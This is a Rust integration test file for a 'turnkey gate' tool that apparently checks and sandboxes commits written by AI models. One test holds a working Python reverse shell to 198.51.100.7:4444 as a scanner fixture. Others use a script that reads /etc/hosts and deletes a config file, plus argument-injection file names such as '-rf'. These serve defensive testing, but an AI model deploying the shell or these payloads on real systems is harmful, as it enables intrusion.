//! `turnkey gate`, on repositories that mean no good.

mod hostile;
mod hosts;
mod repository;

use std::process::Command;

use serde_json::{Value, json};
use turnkey_expectations::expected;
use turnkey_tests::{binary, eventually};

use repository::{CONFIG, Gated, TestRepository, WRITTEN, unrunnable};

expected!(
    not_on[ORDINARY_6_12],
    "the guest has no git; what checks do in a jail, other tests try there"
);

#[test]
fn what_a_model_wrote_is_judged_and_the_rest_is_not() {
    let repository = TestRepository::new(CONFIG);
    repository.commit("by hand", &[("human.txt", "x")]);
    repository.commit(
        &format!("by a model\n\n{WRITTEN}"),
        &[("a\nb.txt", "x"), ("-rf", "x")],
    );
    let gated = repository.gate("--json -o gate.json --sarif gate.sarif --comment gate.md");
    gated.expect(0);
    let result = gated.result();
    assert_eq!(result["verdict"], "pass");
    assert_eq!(result["commits"], 2);
    let [commit] = &result["model_commits"].as_array().expect("a list")[..] else {
        panic!("{result}");
    };
    assert_eq!(commit["subject"], "by a model");
    let files = result["files"].as_array().expect("a list");
    assert_eq!(files, &["-rf", "a\\nb.txt"], "{result}");
    assert_eq!(result["checks"][0]["name"], "tests:unit");
    let stored = std::fs::read_to_string(repository.at("gate.json")).expect("it was written");
    assert_eq!(stored, gated.stdout);
    let comment = std::fs::read_to_string(repository.at("gate.md")).expect("it was written");
    assert!(comment.contains("**turnkey gate: pass**"), "{comment}");
}

/// Who deletes what is model-written has changed it, and the checks are made.
#[test]
fn a_deleted_file_is_a_changed_one() {
    let config = format!(
        "{}\n[[model]]\npath = \"tests/*\"\n",
        CONFIG.replace("test ! -e broken", "test -e tests/a")
    );
    let repository = TestRepository::new(&config);
    std::fs::create_dir(repository.at("tests")).expect("it can be made");
    repository.commit("tests", &[("tests/a", "x")]);
    repository.git(&["branch", "-f", "with-tests"]);
    repository.git(&["rm", "-q", "tests/a"]);
    repository.git(&["commit", "-q", "-m", "by hand"]);
    let gated = repository.gate("--json --base with-tests");
    gated.expect(1);
    assert_eq!(gated.result()["files"], json!(["tests/a"]));
}

#[test]
fn a_failure_is_told_in_every_form() {
    let repository = TestRepository::new(CONFIG);
    repository.commit(&format!("b\n\n{WRITTEN}"), &[("broken", "x")]);
    let gated = repository.gate("--json --sarif gate.sarif --comment gate.md");
    gated.expect(1);
    let finding = &gated.result()["checks"][0]["findings"][0];
    assert_eq!(finding["id"], "ended");
    assert_eq!(finding["what"], "ended with exit code 1");
    let sarif = std::fs::read(repository.at("gate.sarif")).expect("it was written");
    crate::report::readers::read_sarif(std::slice::from_ref(&sarif), 1);
    let sarif: Value = serde_json::from_slice(&sarif).expect("JSON");
    assert_eq!(sarif["runs"][0]["results"][0]["ruleId"], "tests:unit/ended");
    let comment = std::fs::read_to_string(repository.at("gate.md")).expect("it was written");
    assert!(
        comment.contains("- **fail** `tests:unit`\n  - high `ended`"),
        "{comment}"
    );
}

#[test]
fn an_override_counts_until_its_day_and_is_told_in_any_case() {
    let config = unrunnable();
    let overridden =
        "[[override]]\ncheck = \"tests:unit\"\nreason = \"known\"\nauthor = \"A\"\nexpires = ";
    let repository = TestRepository::new(&config);
    repository.commit(&format!("b\n\n{WRITTEN}"), &[("a", "x")]);
    for (day, code, told) in [
        (
            "\"2999-01-01\"",
            0,
            "overridden by A until 2999-01-01: known",
        ),
        ("\"2020-01-01\"", 120, "it expired on 2020-01-01"),
    ] {
        let config = repository.outside("own.toml", &format!("{config}{overridden}{day}\n"));
        let gated = repository.gate(&format!("--config {config}"));
        gated.expect(code);
        assert!(gated.stdout.contains(told), "{}", gated.stdout);
    }
}

#[test]
fn a_head_that_weakens_the_config_weakens_nothing() {
    let repository = TestRepository::new(CONFIG);
    let weak = CONFIG.replace("test ! -e broken", "true");
    let files = [("turnkey.toml", weak.as_str()), ("broken", "x")];
    repository.commit(&format!("weaker\n\n{WRITTEN}"), &files);
    repository.gate("").expect(1);
    // From here on nothing is model-written, and no check is made.
    repository.git(&["commit", "-q", "--amend", "-m", "by hand"]);
    let from = |line: &str| {
        let gated = repository.gate(&format!("--json {line}"));
        gated.expect(0);
        let result = gated.result();
        let text = |value: &Value| value.as_str().expect("text").to_owned();
        let base = text(&result["base"]);
        text(&result["config"]["from"]).replace(&base, "BASE")
    };
    assert_eq!(from("--config turnkey.toml"), "BASE:turnkey.toml");
    let absolute = repository.at("turnkey.toml").display().to_string();
    assert_eq!(from(&format!("--config {absolute}")), "BASE:turnkey.toml");
    let outside = repository.outside("own.toml", CONFIG);
    assert_eq!(from(&format!("--config {outside}")), outside);
    // A link of the head to such a file is a name in the repository.
    std::os::unix::fs::symlink(&outside, repository.at("link.toml")).expect("a link");
    let gated = repository.gate("--config link.toml");
    gated.expect(125);
    assert!(
        gated.stderr.contains("the base has no link.toml"),
        "{}",
        gated.stderr
    );
}

#[test]
fn only_new_behaviour_is_a_finding() {
    let config = CONFIG.replace("[[tests]]", "[[behaviour]]");
    let config = config.replace("test ! -e broken", "cat words; . ./more");
    let repository = TestRepository::new(&config);
    repository.commit("s", &[("words", "x"), ("more", ":")]);
    repository.git(&["branch", "-f", "base", "HEAD"]);
    let files = [
        ("words", "y"),
        ("more", "read line < /etc/hosts; rm turnkey.toml"),
    ];
    repository.commit(&format!("more\n\n{WRITTEN}"), &files);
    let gated = repository.gate("--json");
    gated.expect(1);
    let result = gated.result();
    let findings = result["checks"][0]["findings"].as_array().expect("a list");
    let said = findings
        .iter()
        .filter(|finding| finding["id"] == "new-file");
    let said: Vec<_> = said
        .filter_map(|finding| finding["what"].as_str())
        .collect();
    let [deleted, read] = &said[..] else {
        panic!("what both do is none: {result}");
    };
    assert!(
        deleted.starts_with("deleted /workspace/turnkey.toml"),
        "{deleted}"
    );
    assert!(read.starts_with("read /etc/hosts"), "{read}");
}

#[test]
fn changed_scripts_are_scanned_and_no_others() {
    let config = "schema = \"turnkey.gate-config/v1\"\n[scan]\nfail_at = 50\n[[model]]\nmessage = \"*a model*\"\n";
    let shell = "import socket, subprocess, os
s = socket.socket()
s.connect(('198.51.100.7', 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
subprocess.call(['/bin/sh', '-i'])
";
    let repository = TestRepository::new(config);
    repository.commit("by hand", &[("old.py", shell)]);
    repository.commit("by a model", &[("a\nb.py", "print(1)\n"), ("words", "x")]);
    let gated = repository.gate("--json");
    gated.expect(0);
    let result = gated.result();
    let notes = json!(["neither Python nor shell, and not scanned: words"]);
    assert_eq!(result["notes"], notes, "{result}");
    repository.commit("by a model", &[("-x y.py", shell)]);
    let gated = repository.gate("--json");
    gated.expect(1);
    let result = gated.result();
    let findings = result["checks"][0]["findings"].as_array().expect("a list");
    assert!(!findings.is_empty(), "{result}");
    assert!(
        findings.iter().all(|it| it["path"] == "-x y.py"),
        "{result}"
    );
    // Deeper than a scan goes.
    let deep = "d/".repeat(60);
    std::fs::create_dir_all(repository.at(&deep)).expect("directories");
    std::fs::remove_file(repository.at("-x y.py")).expect("it is there");
    repository.commit("by a model", &[(&format!("{deep}a.py"), shell)]);
    repository.gate("").expect(120);
}

#[test]
fn a_merge_hides_nothing_and_a_path_is_a_sign_whoever_wrote_it() {
    let config = unrunnable().replace("[[tests]]", "[[model]]\npath = \"made/*\"\n[[tests]]");
    let repository = TestRepository::new(&config);
    std::fs::create_dir(repository.at("made")).expect("a new directory");
    repository.commit("by hand", &[("made/a", "x"), ("b", "x")]);
    let files = || {
        let result = repository.gate("--json").result();
        let commits = result["model_commits"].as_array().expect("a list").len();
        (commits, result["files"].clone())
    };
    assert_eq!(files(), (0, json!(["made/a"])));
    // A merge that has a file of neither side.
    repository.git(&["checkout", "-q", "-b", "side", "base"]);
    repository.commit("by hand", &[("c", "x")]);
    repository.git(&["checkout", "-q", "main"]);
    repository.git(&["merge", "-q", "--no-commit", "side"]);
    repository.commit(&format!("merged\n\n{WRITTEN}"), &[("evil", "x")]);
    assert_eq!(files(), (1, json!(["b", "c", "evil", "made/a"])));
}

#[test]
fn a_check_that_cannot_be_made_is_never_a_pass() {
    let repository = TestRepository::new(&unrunnable());
    repository.commit(&format!("m\n\n{WRITTEN}"), &[("a", "x")]);
    let gated = repository.gate("--json --sarif gate.sarif");
    gated.expect(120);
    let result = gated.result();
    assert_eq!(result["verdict"], "inconclusive");
    let why = result["checks"][0]["why"].as_str().expect("text");
    assert!(why.contains("no-such-profile"), "{why}");
    let sarif = std::fs::read(repository.at("gate.sarif")).expect("it was written");
    let sarif: Value = serde_json::from_slice(&sarif).expect("JSON");
    let invocation = &sarif["runs"][0]["invocations"][0];
    assert_eq!(invocation["executionSuccessful"], false);
    assert_eq!(result["checks"].as_array().expect("a list").len(), 1);
    // Nothing is model-written: nothing had to be checked.
    repository.git(&["commit", "-q", "--amend", "-m", "by hand"]);
    let gated = repository.gate("--json");
    gated.expect(0);
    assert_eq!(gated.result()["checks"][0]["verdict"], "skipped");
}

#[test]
fn bad_input_is_told_with_a_fix() {
    let repository = TestRepository::new(CONFIG);
    repository.commit(&format!("m\n\n{WRITTEN}"), &[("a", "x")]);
    repository.commit(&format!("n\n\n{WRITTEN}"), &[("b", "x")]);
    let told = |gated: Gated, words: &str| {
        gated.expect(125);
        assert!(gated.stderr.contains(words), "{}", gated.stderr);
    };
    told(repository.gate("--base missing"), "no commit has the name");
    told(repository.gate("--base=--all"), "no commit has the name");
    told(repository.gate("--config none.toml"), "turnkey gate --init");
    let large = repository.outside("large.toml", &"#".repeat((16 << 20) + 1));
    told(
        repository.gate(&format!("--config {large}")),
        "larger than 16 MiB",
    );
    told(
        repository.gate("--config ../x/../turnkey.toml"),
        "without `..`",
    );
    let invalid = repository.outside("own.toml", &CONFIG.replace("unit", "unit\"\nnmae = \""));
    told(repository.gate(&format!("--config {invalid}")), "nmae");
    // The base is there, and what lies between is not.
    let base = repository.git(&["rev-parse", "base"]);
    let parent = repository.git(&["rev-parse", "main~1"]);
    repository.git(&["checkout", "-q", "--orphan", "other"]);
    repository.commit("unrelated", &[("c", "x")]);
    let shallow = repository.at(".git/shallow");
    let head = repository.git(&["rev-parse", "main"]);
    std::fs::write(&shallow, head).expect("it can be written");
    let object = parent.trim();
    let object = format!(".git/objects/{}/{}", &object[..2], &object[2..]);
    let _ = std::fs::remove_file(repository.at(&object));
    let gated = repository.gate(&format!("--base {} --head main", base.trim()));
    told(gated, "fetch-depth: 0");
    let printed = Command::new(binary()).args(["gate", "--init"]).output();
    let printed = printed.expect("turnkey can be started").stdout;
    let config = repository.outside("own.toml", &String::from_utf8_lossy(&printed));
    std::fs::remove_file(shallow).expect("it is there");
    let gated = repository.gate(&format!("--config {config} --base other --head other"));
    gated.expect(0);
}

#[test]
fn the_callers_tree_is_as_it_was_and_nothing_is_left() {
    let repository = TestRepository::new(&CONFIG.replace("test ! -e broken", "echo x > new; rm a"));
    repository.commit(&format!("m\n\n{WRITTEN}"), &[("a", "x")]);
    std::fs::write(repository.at("a"), "not committed").expect("it can be written");
    let before = repository.state();
    repository.gate("").expect(0);
    assert_eq!(repository.state(), before);
    assert_eq!(repository.temporary(), [""; 0]);
}

#[test]
fn a_gate_that_is_asked_to_end_leaves_nothing() {
    let repository = TestRepository::new(&CONFIG.replace("test ! -e broken", "sleep 30.0625"));
    repository.commit(&format!("m\n\n{WRITTEN}"), &[("a", "x")]);
    let mut gate = repository
        .command("")
        .spawn()
        .expect("turnkey can be started");
    let sleeps = || {
        let list = turnkey_tests::outside("ps", &["-eo", "args"]).1;
        list.lines().filter(|line| *line == "sleep 30.0625").count()
    };
    eventually("the command runs", || {
        std::thread::sleep(std::time::Duration::from_millis(50));
        sleeps() > 0
    });
    assert_ne!(repository.temporary(), [""; 0], "the control");
    turnkey_tests::outside("kill", &[&gate.id().to_string()]);
    let status = gate.wait().expect("it can be waited for");
    assert_eq!(status.code(), Some(128 + 15));
    assert_eq!(repository.temporary(), [""; 0]);
    eventually("the command has ended", || sleeps() == 0);
}
